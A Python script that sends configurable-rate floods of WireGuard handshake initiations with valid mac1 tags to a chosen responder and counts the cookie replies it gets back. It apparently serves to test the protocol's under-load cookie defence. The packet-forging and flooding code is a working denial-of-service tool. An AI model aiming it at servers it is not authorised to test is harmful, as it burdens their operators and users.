#!/usr/bin/env python3
"""Floods a WireGuard responder with handshake initiations that pass its cheapest check.

Every initiation carries a valid mac1 (which needs only the responder's public key, as an attacker
who learned it would have) and random bytes everywhere else, so without load each one costs the
responder a Diffie-Hellman before it fails. Under load the responder must answer with cookie replies
instead; this counts the ones that come back. The flood never uses a cookie, so it never gets past
them.

Prints "sent N cookie_replies M" once a second and once more when stopped (SIGTERM or SIGINT).
"""
import argparse
import base64
import hashlib
import os
import signal
import socket
import sys
import time

INITIATION = 1
COOKIE_REPLY = 3
INITIATION_SIZE = 148
COOKIE_REPLY_SIZE = 64
MAC1_OFFSET = 116  # type, reserved, sender, ephemeral, encrypted static, encrypted timestamp


def mac1_key(public_key: bytes) -> bytes:
    return hashlib.blake2s(b"mac1----" + public_key).digest()


def initiation(key: bytes) -> bytes:
    body = bytes([INITIATION, 0, 0, 0]) + os.urandom(MAC1_OFFSET - 4)
    mac1 = hashlib.blake2s(body, key=key, digest_size=16).digest()
    return body + mac1 + bytes(16)  # no mac2: we hold no cookie


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--to", required=True, help="HOST:PORT of the responder")
    parser.add_argument("--public-key", required=True, help="the responder's public key, base64")
    parser.add_argument("--rate", type=int, default=2000, help="initiations per second")
    args = parser.parse_args()

    host, _, port = args.to.rpartition(":")
    public_key = base64.b64decode(args.public_key)
    if len(public_key) != 32:
        print("the public key must be 32 bytes of base64", file=sys.stderr)
        return 2
    key = mac1_key(public_key)

    stopping = False

    def stop(_signum, _frame):
        nonlocal stopping
        stopping = True

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.connect((host, int(port)))
    sent = replies = 0
    start = last_report = time.monotonic()
    # A hundred slices a second, each sending what the rate owes so far.
    while not stopping:
        now = time.monotonic()
        owed = int((now - start) * args.rate) - sent
        for _ in range(max(owed, 0)):
            try:
                sock.send(initiation(key))
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                break
        while True:
            try:
                data = sock.recv(2048)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if len(data) == COOKIE_REPLY_SIZE and data[0] == COOKIE_REPLY:
                replies += 1
        if now - last_report >= 1.0:
            print(f"sent {sent} cookie_replies {replies}", flush=True)
            last_report = now
        time.sleep(0.01)
    print(f"sent {sent} cookie_replies {replies}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
